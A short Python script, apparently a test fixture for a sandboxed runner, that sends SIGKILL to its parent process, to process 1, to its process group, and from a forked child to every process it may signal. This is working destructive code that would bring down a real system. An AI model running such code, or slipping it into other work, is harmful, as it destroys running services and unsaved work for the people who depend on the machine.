# Sends SIGKILL to its parent, to process 1, to its group, and to every process it may signal.
# base: untouched
# %% + bandits-setup
import os
import signal

for target in (os.getppid(), 1, -os.getpgrp() if os.getpgrp() > 1 else 1):
    try:
        if target != -os.getpid():
            os.kill(target, signal.SIGKILL)
    except OSError as error:
        print(target, error)
if os.fork() == 0:
    os.kill(-1, signal.SIGKILL)
